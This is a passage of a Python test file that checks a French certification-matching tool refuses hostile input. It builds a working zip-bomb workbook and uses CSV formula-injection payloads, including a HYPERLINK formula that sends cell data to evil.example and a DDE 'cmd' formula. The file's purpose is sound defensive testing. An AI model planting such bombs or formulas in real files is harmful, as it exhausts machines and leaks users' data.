"""Hostile and careless input (issue 12): every case is refused with exit status 2 (or a French error
in the dashboard), a message naming the file or the key, no traceback, and nothing written or changed.

Cases, in the issue's order: 1 zip bomb (bounded memory measured in a subprocess), 2 two dashboard
sessions importing the same certification, 3 CSV formula injection, 4 bad files (unknown XML
encoding, control characters), 5 bad destinations, 6 configuration values, 7 a foreign SQLite file
as decision store, 8 manifest ids and paths, 9 markdown injection in the dashboard, 10 server
defaults and reviewer identity. Then property tests: random bytes and random well-formed-but-wrong
inputs for every parser, which may only raise the project's own error type.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import sqlite3
import struct
import subprocess
import sys
import threading
import tomllib
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import crossref.pipeline
from crossref.cli import main
from crossref.config import Config
from crossref.errors import ConfigError, CrossrefError, InputError, OutputError
from crossref.parsing import load_file
from crossref.parsing.limits import MAX_CELL_CHARS, MAX_COLUMNS, MAX_ROWS, MAX_XLSX_MEMBERS
from crossref.parsing.template import COLUMNS
from crossref.tables import PAIR_COLUMNS, validate

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data"
EXAMPLE = DATA / "templates" / "exemple_modele.csv"
FC_SAMPLE = ROOT / "tests" / "data" / "fc_fiche_sample.xml"
HEADER = ",".join(COLUMNS)
ROW = "EX,Titre,B1,Bloc un,C1,Compétence un,Énoncé un,critère a | critère b"
PEAK_LIMIT_MIB = 600


# ---------------------------------------------------------------- helpers
@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    """A private copy of data/raw and data/referentiels."""
    d = tmp_path / "data"
    shutil.copytree(DATA / "raw", d / "raw")
    shutil.copytree(DATA / "referentiels", d / "referentiels")
    return d


@pytest.fixture
def cli(tmp_path: Path, data_dir: Path, capsys: pytest.CaptureFixture[str]):
    """``crossref --config <tmp config> ARGS...`` in process: (exit status, stdout, stderr)."""
    cfg = tmp_path / "config.json"
    cfg.write_text(json.dumps({"data_dir": str(data_dir),
                               "database_url": f"sqlite:///{tmp_path / 'decisions.sqlite'}"}), encoding="utf-8")

    def run(*argv: str | Path, config: Path | None = None) -> tuple[int, str, str]:
        capsys.readouterr()
        rc = main(["--config", str(config or cfg), *map(str, argv)])
        out, err = capsys.readouterr()
        return rc, out, err

    return run


def snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    """Bytes and mtime of every file under ``folder`` (hidden and temporary files included)."""
    return {str(p.relative_to(folder)): (p.read_bytes(), p.stat().st_mtime_ns)
            for p in sorted(folder.rglob("*")) if p.is_file()}


def refused(rc: int, out: str, err: str, *fragments: str) -> None:
    assert rc == 2, (rc, err)
    assert "Traceback" not in err and out == ""
    assert err.startswith("crossref: erreur : ") and err.count("\n") == 1, err
    for f in fragments:
        assert f in err, (f, err)


def _csv(folder: Path, text: str, name: str = "saisie.csv") -> Path:
    p = folder / name
    p.write_text(text, encoding="utf-8")
    return p


def fake_pairs(text: str) -> pd.DataFrame:
    """A valid pairs table over built-in competences whose texts begin with ``text``."""
    rows = []
    for s, t in (("ICD:C1.1", "NEOMA:C1"), ("NEOMA:C1", "ICD:C1.1")):
        rows.append({
            "source": s, "target": t, "source_cert": s.split(":")[0], "target_cert": t.split(":")[0],
            "source_bloc": s.split(":")[0] + ":B1", "target_bloc": t.split(":")[0] + ":B1",
            "score": 0.9, "semantic": 0.9, "lexical": 0.5, "criteria": 0.4, "rank": 1,
            "relation": "equivalent", "direction": "same", "model_relation": "equivalent",
            "status": "suggested", "reviewer": "", "decided_at": "", "note": text,
            "source_phrase": text, "target_phrase": "-x", "shared_terms": "@a", "explanation": text,
        })
    return validate(pd.DataFrame(rows, columns=PAIR_COLUMNS), "pairs")


@pytest.fixture
def evil_run(monkeypatch):
    """The model replaced by a fixed pairs table whose texts are spreadsheet formulas."""
    from crossref.referentiels import load_corpus

    def run(config: Config, extra=(), **_kw):
        corpus = load_corpus(config.data_dir, extra)
        return crossref.pipeline.Results(config=config, corpus=corpus, pairs=fake_pairs(FORMULA),
                                         created_at="2026-01-01T00:00:00Z", data_versions={})

    monkeypatch.setattr(crossref.pipeline, "run", run)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


# ================================================================ 1. zip bomb
def _local(name: bytes, crc: int, csize: int, usize: int) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, csize, usize, len(name), 0) + name


def _central(name: bytes, crc: int, csize: int, usize: int, offset: int) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, csize, usize, len(name),
                       0, 0, 0, 0, 0, offset) + name


def write_zip(path: Path, members: list[tuple[str, list[bytes], bytes, int, int]]) -> None:
    """A zip written by hand: (name, raw deflate parts, ..., crc, inflated size declared)."""
    with path.open("wb") as fh:
        central, offset = [], 0
        for name, parts, _, crc, usize in members:
            csize = sum(len(p) for p in parts)
            header = _local(name.encode(), crc, csize, usize)
            fh.write(header)
            for p in parts:
                fh.write(p)
            central.append(_central(name.encode(), crc, csize, usize, offset))
            offset += len(header) + csize
        cd = b"".join(central)
        fh.write(cd)
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(cd), offset, 0))


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


SHARED_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SHARED_STRINGS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def make_bomb(path: Path, inflated_mib: int = 1024, declared: int | None = None, part: str = "sheet") -> Path:
    """A real .xlsx whose sheet (or shared strings table) inflates to ``inflated_mib`` MiB (about
    1 MB on disk per GiB).

    The part is one identical 1 MiB row (or string) repeated: after a full flush deflate does not
    refer to earlier data, so each repetition compresses to the same bytes, written N times (fast).
    ``declared`` makes the archive lie about the part's inflated size.
    """
    wb = openpyxl.Workbook()
    wb.active.append(["certification"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    if part == "sheet":
        name = "xl/worksheets/sheet1.xml"
        head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet ' + ns + b"><sheetData>"
        item = b'<row><c t="inlineStr"><is><t>' + b"A" * (2**20 - 64) + b"</t></is></c></row>"
        tail = b"</sheetData></worksheet>"
    else:  # openpyxl loads the whole shared strings table when it opens the workbook
        name = "xl/sharedStrings.xml"
        head = b'<?xml version="1.0" encoding="UTF-8"?><sst ' + ns + b">"
        item = b"<si><t>" + b"A" * (2**20 - 64) + b"</t></si>"
        tail = b"</sst>"
    item = item + b" " * (2**20 - len(item))
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    block = c.compress(item) + c.flush(zlib.Z_FULL_FLUSH)
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    last = c.compress(tail) + c.flush()
    crc = zlib.crc32(head)
    for _ in range(inflated_mib):
        crc = zlib.crc32(item, crc)
    crc = zlib.crc32(tail, crc)
    usize = len(head) + inflated_mib * len(item) + len(tail)
    members = [(name, [first, *([block] * inflated_mib), last], b"", crc, usize if declared is None else declared)]
    for member in src.namelist():
        if member == name:
            continue
        data = src.read(member)
        if part != "sheet" and member == "[Content_Types].xml":
            data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="'
                                + SHARED_STRINGS_TYPE.encode() + b'"/></Types>')
        if part != "sheet" and member == "xl/_rels/workbook.xml.rels":
            data = data.replace(b"</Relationships>", b'<Relationship Id="rIdStrings" Type="'
                                + SHARED_STRINGS_REL.encode() + b'" Target="sharedStrings.xml"/></Relationships>')
        members.append((member, [_deflate(data)], b"", zlib.crc32(data), len(data)))
    write_zip(path, members)
    return path


PEAK_SCRIPT = """
import os, re, sys
from crossref.errors import CrossrefError
from crossref.parsing import load_file
if os.environ.get("CROSSREF_TEST_NO_ARCHIVE_CHECK"):  # the control: what the check prevents
    import crossref.parsing.template as template
    template._check_archive = lambda path: None
try:
    load_file(sys.argv[1])
    outcome = "loaded"
except CrossrefError as exc:
    outcome = "refused: " + str(exc)
# VmHWM: the peak resident memory of this process's own address space. (getrusage's ru_maxrss
# would also count the parent's pages at fork: Linux keeps the pre-exec peak in it.)
with open("/proc/self/status") as fh:
    print(int(re.search(r"VmHWM:\\s+(\\d+) kB", fh.read()).group(1)) // 1024)
print(outcome)
"""


def peak_load(path: Path, check: bool = True) -> tuple[int, str]:
    """Load ``path`` in a fresh interpreter; its peak resident memory (MiB) and the outcome.

    The child runs under a 2 GiB address-space limit as well, so that a regression fails
    this test instead of exhausting the machine.
    """
    def limit() -> None:
        import resource

        resource.setrlimit(resource.RLIMIT_AS, (2 * 2**30, 2 * 2**30))

    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    if not check:
        env["CROSSREF_TEST_NO_ARCHIVE_CHECK"] = "1"
    proc = subprocess.run([sys.executable, "-c", PEAK_SCRIPT, str(path)], capture_output=True, text=True,
                          timeout=300, cwd=ROOT, env=env, preexec_fn=limit)
    assert proc.returncode == 0, proc.stderr
    peak, outcome = proc.stdout.strip().split("\n", 1)
    return int(peak), outcome


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    path = make_bomb(tmp_path_factory.mktemp("bomb") / "bombe.xlsx", 1024)
    assert path.stat().st_size < 1.2e6  # a 1 MB file...
    with zipfile.ZipFile(path) as z:  # ...whose sheet really inflates to 1 GiB
        assert z.getinfo("xl/worksheets/sheet1.xml").file_size > 2**30
    return path


def test_zip_bomb_is_refused_under_600_mib(bomb: Path) -> None:
    peak, outcome = peak_load(bomb)
    print(f"\nzip bomb (1 MB -> 1 GiB): refused with a peak of {peak} MiB")
    assert outcome.startswith(f"refused: {bomb}") and "bombe zip" in outcome, outcome
    assert peak < PEAK_LIMIT_MIB


def test_shared_strings_bomb_is_refused_and_the_measure_sees_what_it_prevents(tmp_path: Path) -> None:
    path = make_bomb(tmp_path / "chaines.xlsx", 1024, part="strings")
    peak, outcome = peak_load(path)
    assert outcome.startswith(f"refused: {path}") and "bombe zip" in outcome, outcome
    assert peak < PEAK_LIMIT_MIB
    # Control: the same kind of file, 192 MiB of strings, opened without the archive check.
    # openpyxl loads the whole table before the first row is read: the peak measures it.
    control = make_bomb(tmp_path / "temoin.xlsx", 192, part="strings")
    unchecked, _ = peak_load(control, check=False)
    print(f"\nshared strings bomb: refused with a peak of {peak} MiB; "
          f"192 MiB of strings without the archive check: {unchecked} MiB")
    assert unchecked > 192


def test_zip_bomb_lying_about_its_size_is_refused_under_600_mib(tmp_path: Path) -> None:
    # The directory declares 10 kB: the archive checks pass, but Python's zipfile never
    # inflates past the declared size (and the CRC then fails).
    path = make_bomb(tmp_path / "menteuse.xlsx", 512, declared=10_000)
    peak, outcome = peak_load(path)
    print(f"\nzip bomb lying about its size: refused with a peak of {peak} MiB")
    assert outcome.startswith(f"refused: {path}") and "classeur Excel illisible" in outcome, outcome
    assert peak < PEAK_LIMIT_MIB


def test_zip_bomb_cli_and_dashboard(bomb: Path, cli, data_dir: Path, tmp_path: Path) -> None:
    before = snapshot(data_dir)
    refused(*cli("competences", "--data", bomb, "--out", tmp_path / "x.csv"), str(bomb), "bombe zip")
    assert snapshot(data_dir) == before and not (tmp_path / "x.csv").exists()
    from crossref.ui import state

    with pytest.raises(InputError, match="bombe zip") as info:
        state.validate_upload(Config(data_dir=str(data_dir)), "envoi.xlsx", bomb.read_bytes())
    assert info.value.path == "envoi.xlsx"
    assert snapshot(data_dir) == before  # the staging copy is gone too


def _xlsx(path: Path, rows: list[list]) -> Path:
    wb = openpyxl.Workbook()
    for r in rows:
        wb.active.append(r)
    wb.save(path)
    return path


def _rewrite_member(path: Path, name: str, edit) -> None:
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for n in src.namelist():
            data = src.read(n)
            out.writestr(n, edit(data) if n == name else data)


def test_xlsx_with_too_many_members_is_refused(tmp_path: Path) -> None:
    p = _xlsx(tmp_path / "membres.xlsx", [list(COLUMNS), ROW.split(",")])
    with zipfile.ZipFile(p, "a") as z:
        for i in range(MAX_XLSX_MEMBERS + 1):
            z.writestr(f"x/{i}.bin", b"")
    with pytest.raises(InputError, match="éléments dans l'archive") as info:
        load_file(p)
    assert info.value.path == str(p)


def test_forged_dimension_and_far_row_read_sparsely(tmp_path: Path) -> None:
    # openpyxl's own iterator would pad every row to column XFD and fill 1 048 575 empty rows.
    p = _xlsx(tmp_path / "dimension.xlsx", [list(COLUMNS), ROW.split(",")])

    def forge(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml)
        far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t></t></is></c></row>'
        return xml.replace(b"</sheetData>", far + b"</sheetData>")

    _rewrite_member(p, "xl/worksheets/sheet1.xml", forge)
    (cert,) = load_file(p)
    assert [c.id for c in cert.competences] == ["EX:C1"] and len(cert.criteria) == 2


def test_xlsx_cell_far_right_is_refused(tmp_path: Path) -> None:
    row = ROW.split(",") + [""] * (MAX_COLUMNS - len(COLUMNS)) + ["hors modèle"]
    p = _xlsx(tmp_path / "large.xlsx", [list(COLUMNS), row])
    with pytest.raises(InputError, match="hors du modèle") as info:
        load_file(p)
    assert info.value.row == 2


def test_too_many_rows_and_too_long_cells(tmp_path: Path) -> None:
    rows = "".join(f"EX,Titre,B1,Bloc,C{i},Comp,Énoncé,\n" for i in range(MAX_ROWS + 1))
    with pytest.raises(InputError, match="trop de lignes") as info:
        load_file(_csv(tmp_path, HEADER + "\n" + rows, "lignes.csv"))
    assert info.value.row == MAX_ROWS + 2
    long = "x" * (MAX_CELL_CHARS + 1)
    with pytest.raises(InputError, match="cellule trop longue") as info:
        load_file(_csv(tmp_path, HEADER + "\n" + ROW.replace("Énoncé un", long) + "\n", "long.csv"))
    assert (info.value.row, info.value.column) == (2, "statement")
    p = _xlsx(tmp_path / "long.xlsx", [list(COLUMNS), ROW.replace("Énoncé un", long).split(",")])
    with pytest.raises(InputError, match="cellule trop longue") as info:
        load_file(p)
    assert (info.value.row, info.value.column) == (2, "statement")


# ================================================================ 2. two dashboard sessions
def test_two_sessions_adding_the_same_certification(tmp_path: Path) -> None:
    from crossref.referentiels import load_corpus
    from crossref.ui import state

    data = tmp_path / "data"
    shutil.copytree(DATA / "referentiels", data / "referentiels")
    config = Config(data_dir=str(data))
    text = EXAMPLE.read_bytes()
    # Both sessions validate before either adds: each upload is fine on its own.
    uploads = [state.validate_upload(config, f"session{i}.csv", text) for i in range(2)]
    barrier, outcomes = threading.Barrier(2), []

    def add(upload) -> None:
        barrier.wait()
        try:
            outcomes.append(("ok", state.save_upload(config, upload)))
        except CrossrefError as exc:
            outcomes.append(("refused", exc))

    threads = [threading.Thread(target=add, args=(u,)) for u in uploads]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert sorted(kind for kind, _ in outcomes) == ["ok", "refused"]
    error = next(e for kind, e in outcomes if kind == "refused")
    assert isinstance(error, InputError) and "EXEMPLE" in str(error) and "déjà présente" in str(error)
    assert str(error).startswith("session")  # names the uploaded file
    files = state.imported_files(config)
    assert len(files) == 1
    assert "EXEMPLE" in load_corpus(config.data_dir, files).ids  # every page can still load


def test_two_dashboard_sessions_press_add(tmp_path: Path, monkeypatch) -> None:
    from streamlit.testing.v1 import AppTest

    from crossref.ui import PAGES, state

    data = tmp_path / "data"
    for sub in ("referentiels", "templates"):
        shutil.copytree(DATA / sub, data / sub)
    cfg = tmp_path / "config.json"
    cfg.write_text(json.dumps({"data_dir": str(data), "database_url": f"sqlite:///{tmp_path / 'd.sqlite'}"}))
    monkeypatch.setenv(state.ENV_CONFIG, str(cfg))
    importer = next(p for p in PAGES if p.file == "importer.py").app_relative
    sessions = []
    for name in ("premier.csv", "second.csv"):
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
        at.switch_page(importer)
        at.run()
        at.file_uploader[0].upload(name, EXAMPLE.read_bytes(), "text/csv").run()
        assert [b for b in at.button if b.key == "imp_add"], [e.value for e in at.error]
        sessions.append(at)
    # Both pages offer « Ajouter au corpus »; the first session adds, then the second.
    monkeypatch.setattr(state, "snapshot", lambda config=None: None)  # the recomputation is not under test
    sessions[0].button(key="imp_add").click().run()
    assert not sessions[0].exception and not sessions[0].error
    sessions[1].button(key="imp_add").click().run()
    assert not sessions[1].exception
    errors = [e.value for e in sessions[1].error]
    assert errors and "Ajout impossible" in errors[0] and "EXEMPLE" in errors[0], errors
    assert [p.name for p in state.imported_files(Config.load(cfg))] == ["premier.csv"]


# ================================================================ 3. CSV formula injection
DANGEROUS = ["=1+1", "+33 6", "-2", "@SUM(A1)", "\tx", "\rcmd", FORMULA]
KEPT = [t for t in DANGEROUS if t == t.strip()]  # the template strips cells: "\tx" is read as "x"


def _evil_template(folder: Path) -> Path:
    rows = [list(COLUMNS)]
    for i, text in enumerate(DANGEROUS, start=1):
        rows.append(["EVIL", "Titre", "B1", "Bloc", f"C{i}", text, text, ""])
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)  # quotes the cell holding "\r"
    return _csv(folder, buf.getvalue(), "evil.csv")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_competences_csv_neutralises_formulas(cli, tmp_path: Path) -> None:
    evil = _evil_template(tmp_path)
    rc, out, err = cli("competences", "--data", evil)
    assert rc == 0, err
    cells = _cells(out)
    for text in KEPT:
        assert text not in cells and "'" + text in cells, text
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    rc, _, err = cli("competences", "--data", evil, "--out", tmp_path / "c.csv")
    assert rc == 0
    assert (tmp_path / "c.csv").read_text(encoding="utf-8") == out
    rc, out, _ = cli("competences", "--data", evil, "--format", "json")  # JSON keeps the text as written
    assert {r["title"] for r in json.loads(out) if r["certification"] == "EVIL"} == {t.strip() for t in DANGEROUS}


@pytest.mark.parametrize("extra", [[], ["--all-columns"]])
def test_pairs_out_neutralises_formulas(cli, tmp_path: Path, evil_run, extra) -> None:
    out = tmp_path / "paires.csv"
    rc, _, err = cli("pairs", "--out", out, *extra)
    assert rc == 0, err
    cells = _cells(out.read_text(encoding="utf-8"))
    assert FORMULA not in cells and "'" + FORMULA in cells
    if extra:
        assert "'-x" in cells and "'@a" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_review_list_and_template_writer_neutralise_formulas(cli, tmp_path: Path, evil_run) -> None:
    rc, _, err = cli("review", "accept", "ICD:C1.1", "NEOMA:C1", "--reviewer", "=cmd|' /C calc'!A0",
                     "--note", "@SUM(1)")
    assert rc == 0, err
    rc, out, _ = cli("review", "list")
    cells = _cells(out)
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells
    from crossref.parsing.template import parse, write_template

    certs = parse(_evil_template(tmp_path))
    written = write_template(certs, tmp_path / "modele.csv")
    assert not [c for c in _cells(written.read_text(encoding="utf-8")) if c.startswith(("=", "+", "-", "@"))]
    (back,) = parse(written)  # reading the template back undoes the protection
    assert [c.title for c in back.competences] == [c.title for c in certs[0].competences]


# ================================================================ 4. bad files
def test_xml_with_an_unknown_encoding_exits_2(tmp_path: Path) -> None:
    p = tmp_path / "fiche.xml"
    p.write_bytes(b'<?xml version="1.0" encoding="x-klingon"?>\n<FICHES/>')
    proc = subprocess.run([sys.executable, "-m", "crossref", "competences", "--data", str(p)], cwd=ROOT,
                          capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == 2 and proc.stdout == "" and "Traceback" not in proc.stderr
    assert proc.stderr.startswith(f"crossref: erreur : {p}, ligne 1: encodage déclaré inconnu"), proc.stderr


@pytest.mark.parametrize("encoding", ["shift_jis", "base64", "idna"])
def test_xml_encodings_expat_cannot_use(tmp_path: Path, encoding: str) -> None:
    p = tmp_path / "fiche.xml"
    p.write_bytes(f'<?xml version="1.0" encoding="{encoding}"?>\n<FICHES/>'.encode())
    with pytest.raises(InputError, match="encodage") as info:
        load_file(p)
    assert info.value.path == str(p)


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\x1b", "\x7f"])
def test_control_characters_in_template_cells(cli, tmp_path: Path, data_dir: Path, char: str) -> None:
    p = _csv(tmp_path, HEADER + "\n" + ROW.replace("Énoncé un", f"Énon{char}cé") + "\n")
    before = snapshot(data_dir)
    refused(*cli("competences", "--data", p), f"{p}, rang 2, colonne 'statement'",
            f"U+{ord(char):04X}")
    refused(*cli("ingest", "--data", p), str(p))
    assert snapshot(data_dir) == before


def test_control_characters_in_xlsx_json_and_xml(tmp_path: Path) -> None:
    p = _xlsx(tmp_path / "ctrl.xlsx", [list(COLUMNS), ROW.split(",")])
    # XML 1.0 cannot carry a control character: a sheet holding one raw is not well-formed.
    _rewrite_member(p, "xl/worksheets/sheet1.xml", lambda x: x.replace("Énoncé un".encode(), b"a\x01b"))
    with pytest.raises(InputError, match="illisible") as info:
        load_file(p)
    assert info.value.path == str(p)
    from crossref.io import certification_json
    from crossref.parsing.template import parse

    (cert,) = parse(_csv(tmp_path, HEADER + "\n" + ROW + "\n"))
    cert.competences[0].statement = "nul\x00"
    j = tmp_path / "cert.json"
    j.write_text(certification_json(cert), encoding="utf-8")
    with pytest.raises(InputError, match="U\\+0000") as info:
        load_file(j)
    assert info.value.path == str(j) and "EX:C1.statement" in str(info.value)
    x = tmp_path / "fiche.xml"
    x.write_bytes(FC_SAMPLE.read_bytes().replace(b"<INTITULE>", b"<INTITULE>&#1;", 1))
    with pytest.raises(InputError) as info:
        load_file(x)
    assert info.value.path == str(x)


@pytest.mark.parametrize("name, content", [
    ("profond.json", "[" * 100_000),
    ("profond.xml", "<FICHES>" + "<a>" * 5000 + "</a>" * 5000 + "</FICHES>"),
    ("types.json", json.dumps({"id": "X", "title": "t", "competences": [{"id": "X:C1", "title": 5}]})),
    ("liste.json", json.dumps({"id": "X", "title": "t", "blocs": "abc"})),
    ("chemin.json", json.dumps({"id": "../../x", "title": "t"})),
])
def test_malformed_structures_are_input_errors(tmp_path: Path, name: str, content: str) -> None:
    p = tmp_path / name
    p.write_text(content, encoding="utf-8")
    with pytest.raises(InputError) as info:
        load_file(p)
    assert info.value.path == str(p)


def test_vae_text_is_bounded(cli, tmp_path: Path, monkeypatch) -> None:
    from crossref.passerelles import MAX_VAE_CHARS

    monkeypatch.setattr(crossref.pipeline, "run", lambda *a, **k: pytest.fail("ran anyway"))
    p = tmp_path / "parcours.txt"
    p.write_text("J'accueille les clients. " * (MAX_VAE_CHARS // 20), encoding="utf-8")
    refused(*cli("vae", "--to", "NEOMA", "--text", p), str(p), "trop long")
    monkeypatch.setattr(sys, "stdin", io.StringIO("x" * (MAX_VAE_CHARS + 10)))
    refused(*cli("vae", "--to", "NEOMA", "--text", "-"), "entrée standard", "trop long")


# ================================================================ 5. bad destinations
def _destinations(tmp_path: Path) -> dict[str, Path]:
    (tmp_path / "dossier").mkdir()
    (tmp_path / "fichier").write_text("déjà là", encoding="utf-8")
    os.mkfifo(tmp_path / "tube")
    return {
        "folder": tmp_path / "dossier",
        "under a file": tmp_path / "fichier" / "sortie.csv",
        "deeper under a file": tmp_path / "fichier" / "a" / "b.csv",
        "not a regular file": tmp_path / "tube",
    }


@pytest.mark.parametrize("case", ["folder", "under a file", "deeper under a file", "not a regular file"])
@pytest.mark.parametrize("command", [["competences"], ["pairs"], ["export"], ["graph"], ["clusters"]])
def test_bad_destination_exits_2_before_running(cli, tmp_path: Path, monkeypatch, case: str, command: list) -> None:
    ran = []
    monkeypatch.setattr(crossref.pipeline, "run", lambda *a, **k: ran.append(1))
    dest = _destinations(tmp_path)[case]
    before = snapshot(tmp_path)
    refused(*cli(*command, "--out", dest), str(dest))
    assert not ran  # refused before the long run
    assert snapshot(tmp_path) == before  # no temporary file, no sidecar, no folder


def test_export_csv_never_leaves_an_orphan_sidecar(tmp_path: Path) -> None:
    from crossref.export.tables import metadata_path, write_pairs

    results = crossref.pipeline.Results(config=Config(), corpus=None, pairs=fake_pairs("x"),
                                        created_at="", data_versions={})
    results.corpus = type("C", (), {"ids": ["ICD", "NEOMA"]})()
    (tmp_path / "paires.csv.meta.json").mkdir()  # the sidecar's place is taken by a folder
    before = snapshot(tmp_path)
    with pytest.raises(OutputError, match="dossier"):
        write_pairs(tmp_path / "paires.csv", results)
    assert snapshot(tmp_path) == before and not (tmp_path / "paires.csv").exists()
    # A failure while writing the second file leaves neither.
    out = tmp_path / "b" / "paires.csv"
    original = Path.write_text

    def fail_on_table(self, text, *a, **k):
        if self.name.startswith(".paires.csv.") and not self.name.startswith(".paires.csv.meta"):
            raise OSError(28, "No space left on device")
        return original(self, text, *a, **k)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(Path, "write_text", fail_on_table)
        with pytest.raises(OutputError, match="No space left"):
            write_pairs(out, results)
    assert not (tmp_path / "b").exists() and not metadata_path(out).exists()


def test_output_error_names_the_file() -> None:
    from crossref.io import check_destination

    for bad in ("", "   "):
        with pytest.raises(OutputError, match="vide"):
            check_destination(bad)


# ================================================================ 6. configuration
BAD_CONFIG = {
    "NaN hubness": ({"matching": {"hubness": float("nan")}}, "matching.hubness", "NaN"),
    "infinite margin": ({"matching": {"direction_margin": float("inf")}}, "matching.direction_margin", "∞"),
    "negative margin": ({"matching": {"direction_margin": -0.1}}, "matching.direction_margin", "entre 0 et 1"),
    "NaN coverage": ({"passerelles": {"full_coverage": float("nan")}}, "passerelles.full_coverage", "NaN"),
    "top_k = -1": ({"matching": {"top_k": -1}}, "matching.top_k", "≥ 1"),
    "max_block_pairs = 0": ({"matching": {"max_block_pairs": 0}}, "matching.max_block_pairs", "≥ 1"),
    "max_scored_blocks = -1": ({"matching": {"max_scored_blocks": -1}}, "matching.max_scored_blocks", "≥ 0"),
    "NaN channel weight": ({"matching": {"channels": {"lexical:full": float("nan")}}},
                           "matching.channels['lexical:full']", "NaN"),
    "coverage bounds in the wrong order": ({"passerelles": {"full_coverage": 0.3, "partial_coverage": 0.6}},
                                           "passerelles.partial_coverage", "≤ passerelles.full_coverage"),
    "negative channel weight": ({"matching": {"channels": {"lexical:full": -1.0}}},
                                "matching.channels['lexical:full']", "≥ 0"),
    "all weights zero": ({"matching": {"channels": {"lexical:full": 0.0}}}, "matching.channels", "poids > 0"),
    "no channel": ({"matching": {"channels": {}}}, "matching.channels", "aucun canal"),
    "unknown backend": ({"matching": {"channels": {"bert:text": 1.0}}}, "matching.channels", "moteur 'bert'"),
    "unknown view": ({"matching": {"channels": {"lexical:titre": 1.0}}}, "matching.channels", "vue 'titre'"),
    "unknown clause backend": ({"matching": {"clause_backend": "bert"}}, "matching.clause_backend", "moteur inconnu"),
    "empty calibration path": ({"matching": {"calibration": ""}}, "matching.calibration", "vide"),
    "hubness above 1": ({"matching": {"hubness": 1.5}}, "matching.hubness", "entre 0 et 1"),
    "zero threads": ({"embedding": {"threads": 0}}, "embedding.threads", "entre 1 et 256"),
    "credit above 1": ({"passerelles": {"equivalent_credit": 2}}, "passerelles.equivalent_credit", "entre 0 et 1"),
    "vae thresholds inverted": ({"passerelles": {"vae_evidence_threshold": 0.9}},
                                "passerelles.vae_evidence_threshold", "≤ passerelles.vae_equivalent_threshold"),
    "empty cache_dir": ({"embedding": {"cache_dir": " "}}, "embedding.cache_dir", "vide"),
}


@pytest.mark.parametrize("case", list(BAD_CONFIG))
def test_bad_configuration_value_exits_2_naming_the_key(cli, tmp_path: Path, case: str) -> None:
    data, key, allowed = BAD_CONFIG[case]
    path = tmp_path / "crossref.json"
    path.write_text(json.dumps(data), encoding="utf-8")  # NaN and Infinity are JSON extensions Python reads
    refused(*cli("competences", config=path), f"{path} : {key}", allowed)
    with pytest.raises(ConfigError, match=re.escape(key)):
        Config.from_dict(data)


def _artifact(edit) -> dict:
    data = json.loads((ROOT / "models" / "calibration.json").read_text(encoding="utf-8"))
    edit(data)
    return data


# The fitted values (thresholds, channel statistics, pair model) live in the calibration artifact.
BAD_ARTIFACT = {
    "partial above equivalent": lambda d: d["pair_model"].update(partial_threshold=0.9, equivalent_threshold=0.5),
    "NaN threshold": lambda d: d["pair_model"].update(partial_threshold=float("nan")),
    "zero reference std": lambda d: d["channels"]["lexical:full"].update(std=0.0),
    "infinite reference mean": lambda d: d["channels"]["lexical:full"].update(mean=float("inf")),
    "zero sentence scale": lambda d: d["sentence_logistic"].update(scale=0.0),
    "NaN coefficient": lambda d: d["pair_model"]["coef"].__setitem__(0, float("nan")),
    "zero feature std": lambda d: d["pair_model"]["std"].__setitem__(0, 0.0),
    "coefficients missing": lambda d: d["pair_model"]["coef"].pop(),
    "negative weight": lambda d: d["channels"]["lexical:full"].update(weight=-1.0),
}


@pytest.mark.parametrize("case", list(BAD_ARTIFACT))
def test_bad_calibration_artifact_exits_2_naming_it(cli, tmp_path: Path, data_dir: Path, monkeypatch, case) -> None:
    monkeypatch.setattr(crossref.pipeline, "compute", lambda *a: pytest.fail("computed anyway"))
    artifact = tmp_path / "calibration.json"
    artifact.write_text(json.dumps(_artifact(BAD_ARTIFACT[case])), encoding="utf-8")
    path = tmp_path / "crossref.json"
